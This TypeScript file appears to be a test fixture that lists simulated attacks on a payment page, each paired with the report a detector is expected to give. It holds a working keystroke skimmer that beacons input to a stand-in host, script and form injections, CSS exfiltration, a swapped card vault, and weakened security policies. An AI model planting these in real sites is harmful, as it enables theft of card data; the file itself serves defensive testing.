import type { Answer, Tamper } from './tampering-proxy';

/** An attack on a page, and words of the difference that tells it. */
export interface NamedTamper extends Tamper {
  name: string;
  reported: RegExp;
  /** The page sends cards to a provider. */
  isOfVault?: boolean;
}

/** The attacker's site. No name server knows it. */
const foreign = 'https://elsewhere.example';

const policy = 'content-security-policy';

/** Steals what is typed. */
const spy = `document.addEventListener('input',function(e){navigator.sendBeacon('${foreign}/',e.target.value)},true)`;

const isPage = ({ headers }: Answer) => String(headers['content-type']).includes('html');

/** Changes the HTML of a page; `$nonce` in the text stands for the page's nonce. */
function inPage(pattern: RegExp | string, replacement: string): Tamper['change'] {
  return (answer) => {
    if (!isPage(answer)) return answer;
    const nonce = /'nonce-([^']+)'/.exec(String(answer.headers[policy]))?.[1] ?? '';
    return { ...answer, body: answer.body.replace(pattern, () => replacement.replaceAll('$nonce', nonce)) };
  };
}

function inHeaders(edit: (headers: Answer['headers']) => Answer['headers']): Tamper['change'] {
  return (answer) => (isPage(answer) ? { ...answer, headers: edit(answer.headers) } : answer);
}

const inPolicy = (edit: (text: string) => string | undefined) =>
  inHeaders((headers) => ({ ...headers, [policy]: edit(String(headers[policy])) }));

const inFirstScript =
  (added: string): Tamper['change'] =>
  (answer) =>
    answer.path.endsWith('.js') ? { ...answer, body: `${answer.body}\n;${added}` } : answer;

/** The sandbox's vault, as a page and its policy name it. */
const vaultAddress = /http:\/\/localhost:\d+\/(?:core\/v5\/tokens|v1\/card_tokens)/;
const foreignVault = `${foreign}/core/v5/tokens`;
const toForeign = (text: string) => text.replace(vaultAddress, foreignVault);

/** The first ones are played by day. */
export const tampers: readonly NamedTamper[] = [
  { name: 'a changed script', change: inFirstScript(spy), reported: /a script was changed/ },
  {
    name: 'a script in the page that has the nonce',
    change: inPage('</head>', `<script nonce="$nonce">${spy}</script></head>`),
    reported: /unknown script in the page ran: document\.addEventListener/,
  },
  {
    name: 'a vault of another host',
    isOfVault: true,
    change: (answer) => inPolicy(toForeign)(inPage(vaultAddress, foreignVault)(answer)),
    reported: /policy allows https:\/\/elsewhere\.example\/core\/v5\/tokens in connect-src/,
  },
  {
    name: 'a form that sends elsewhere',
    change: inPage('<form', `<form action="${foreign}/collect"`),
    reported: /form sends to https:\/\/elsewhere/,
  },
  {
    name: 'a script of another site that has the nonce',
    change: inPage('</head>', `<script nonce="$nonce" src="${foreign}/spy.js"></script></head>`),
    reported: /foreign site was asked: https:\/\/elsewhere\.example\/spy\.js/,
  },
  {
    name: 'a script at an address of ours that the build lacks',
    change: inPage('</head>', '<script nonce="$nonce" src="/_next/static/chunks/spy.js"></script></head>'),
    plants: { '/_next/static/chunks/spy.js': spy },
    reported: /a script ran that the build does not contain/,
  },
  {
    name: 'a script that replaces one of the page',
    change: inPage(/\/_next\/static\/chunks\/[\w-]+\.js"/, '/_next/static/chunks/gone.js"'),
    reported: /not answered: 404 .*gone\.js/,
  },
  { name: 'no content policy', change: inPolicy(() => undefined), reported: /content-security-policy is missing/ },
  {
    name: 'a content policy that allows calls to another site',
    change: inPolicy((text) => text.replace("connect-src 'self'", `connect-src 'self' ${foreign}`)),
    reported: /policy allows https:\/\/elsewhere\.example in connect-src/,
  },
  {
    name: 'a content policy with a second vault',
    isOfVault: true,
    change: inPolicy((text) =>
      text.replace("connect-src 'self'", "connect-src 'self' https://api.pagar.me/core/v5/tokens"),
    ),
    reported: /allows a second vault/,
  },
  {
    name: 'a content policy that allows text as code',
    change: inPolicy((text) => text.replace("'strict-dynamic'", "'strict-dynamic' 'unsafe-eval'")),
    reported: /policy allows 'unsafe-eval' in script-src/,
  },
  {
    name: 'a content policy without Trusted Types',
    change: inPolicy((text) => text.replace(/; require-trusted-types-for.*/, '')),
    reported: /policy lacks require-trusted-types-for/,
  },
  {
    name: 'no strict transport',
    change: inHeaders(({ 'strict-transport-security': _, ...headers }) => headers),
    reported: /strict-transport-security is missing/,
  },
  {
    name: 'a frame of another site',
    change: inPage('</body>', `<iframe src="${foreign}/card"></iframe></body>`),
    reported: /a frame shows https:\/\/elsewhere/,
  },
  {
    name: 'code in an attribute',
    change: inPage('<body', `<body onfocus="${spy.replaceAll('"', '')}"`),
    reported: /code in an attribute: onfocus/,
  },
  {
    name: 'a service worker',
    // The policy and Trusted Types refuse one, so the attacker drops the policy too.
    change: (answer) => inFirstScript("navigator.serviceWorker.register('/spy.js')")(inPolicy(() => undefined)(answer)),
    plants: { '/spy.js': "addEventListener('fetch',function(){})" },
    reported: /a worker runs: .*service worker/,
  },
  {
    name: 'a style sheet that imports another',
    change: inPage('</head>', `<style nonce="$nonce">@import url(${foreign}/a.css);</style></head>`),
    reported: /style sheet imports/,
  },
  {
    name: 'a style sheet that sends what is typed',
    change: inPage('</head>', `<style nonce="$nonce">[value^="4"]{background:url(${foreign}/4)}</style></head>`),
    reported: /style sheet loads https:\/\/elsewhere\.example\/4/,
  },
  {
    name: 'a linked style sheet of another site',
    change: inPage('</head>', `<link rel="stylesheet" href="${foreign}/a.css"></head>`),
    reported: /an element loads https:\/\/elsewhere/,
  },
  { name: 'a base element', change: inPage('<head>', `<head><base href="${foreign}/">`), reported: /base element/ },
  {
    name: 'a link that leads elsewhere',
    change: inPage('</body>', `<a href="${foreign}/pay">Pagar</a></body>`),
    reported: /a link leads to https:\/\/elsewhere/,
  },
  {
    name: 'a page that leads elsewhere',
    change: inPage('</head>', `<meta http-equiv="refresh" content="600;url=${foreign}"></head>`),
    reported: /meta element leads the page elsewhere/,
  },
  {
    name: 'a map of modules',
    change: inPage('</head>', '<script nonce="$nonce" type="importmap">{"imports":{}}</script></head>'),
    reported: /script element of an unknown type: importmap/,
  },
];
